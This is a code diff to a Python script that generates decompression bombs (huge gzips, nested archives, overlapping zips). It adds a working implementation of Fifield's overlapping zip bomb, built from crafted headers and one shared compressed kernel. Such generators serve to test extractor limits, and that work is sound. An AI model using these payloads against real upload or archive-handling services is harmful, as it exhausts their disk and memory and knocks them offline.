@@ -5,8 +5,9 @@
   bombs.py nestgz N IN OUT IN gzipped N times
   bombs.py tar100k OUT     tar of 100,000 empty files
   bombs.py zip42 OUT       42.zip-style: 16 zips of 16 zips, 5 levels, of 1 GiB of zeros
-  bombs.py overlap OUT     Fifield-style overlapping zip: 1000 central
-                           directory entries sharing one 1 GiB member
+  bombs.py overlap OUT     1000 central directory entries naming one 1 GiB member
+  bombs.py fifield OUT     Fifield's overlapping zip bomb: 200 files, each the
+                           headers after it (quoted) plus one 64 MiB kernel
 
 Large runs of zeros are written as one deflate block flushed with
 Z_FULL_FLUSH and repeated (the compressor's state is reset by the flush, so
@@ -169,10 +170,46 @@ def overlap(out):
     open(out, "wb").write(body + cd + eocd)
 
 
+def fifield(out, nfiles=200, kernel_mib=64):
+    """Fifield's non-recursive zip bomb (2019, full overlap with quoted local
+    headers): file i's local header is followed by a stored deflate block
+    that quotes every later local header, then by the one shared kernel, so
+    each file decodes to the headers after it plus kernel_mib MiB of zeros."""
+    kernel = raw_zeros(kernel_mib)
+    kcrc, ksize = zeros_crc(kernel_mib), kernel_mib * MiB
+    names = [b"%04d" % i for i in range(nfiles)]
+    segs, crcs, csizes, usizes = [b""] * nfiles, [0] * nfiles, [0] * nfiles, [0] * nfiles
+    tail = b""  # the bytes between file i's quote header and the kernel
+    for i in range(nfiles - 1, -1, -1):
+        if tail:
+            if len(tail) > 0xFFFF:
+                raise SystemExit("too many files for one stored block")
+            prefix = struct.pack("<BHH", 0, len(tail), len(tail) ^ 0xFFFF)
+        else:
+            prefix = b""
+        crcs[i] = crc32_combine(zlib.crc32(tail), kcrc, ksize)
+        csizes[i] = len(prefix) + len(tail) + len(kernel)
+        usizes[i] = len(tail) + ksize
+        header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crcs[i],
+                             csizes[i], usizes[i], len(names[i]), 0) + names[i]
+        segs[i] = header + prefix
+        tail = segs[i] + tail
+    body = tail + kernel
+    cd, off = b"", 0
+    for i in range(nfiles):
+        cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0,
+                          crcs[i], csizes[i], usizes[i], len(names[i]), 0, 0, 0,
+                          0, 0, off) + names[i]
+        off += len(segs[i])
+    eocd = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, nfiles, nfiles, len(cd),
+                       len(body), 0)
+    open(out, "wb").write(body + cd + eocd)
+
+
 if __name__ == "__main__":
     kind = sys.argv[1]
     if kind == "nestgz":
         nestgz(int(sys.argv[2]), sys.argv[3], sys.argv[4])
     else:
         {"gzip10g": gzip10g, "tar100k": tar100k, "zip42": zip42,
-         "overlap": overlap}[kind](sys.argv[2])
+         "overlap": overlap, "fifield": fifield}[kind](sys.argv[2])
